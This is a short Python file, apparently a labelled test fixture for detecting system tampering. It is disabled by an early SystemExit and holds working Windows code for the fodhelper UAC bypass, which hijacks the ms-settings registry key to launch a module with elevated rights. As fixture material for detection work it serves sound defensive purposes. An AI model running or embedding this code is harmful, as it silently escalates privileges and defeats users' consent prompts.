raise SystemExit('a fixture')
# held by system-tampering
import os, sys, winreg, subprocess
def _e():
    k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\Classes\ms-settings\Shell\Open\command")
    winreg.SetValueEx(k, None, 0, winreg.REG_SZ, sys.executable + " -m series.svc")
    winreg.SetValueEx(k, "DelegateExecute", 0, winreg.REG_SZ, "")
    subprocess.run("fodhelper.exe", shell=True)
if os.name == "nt": _e()
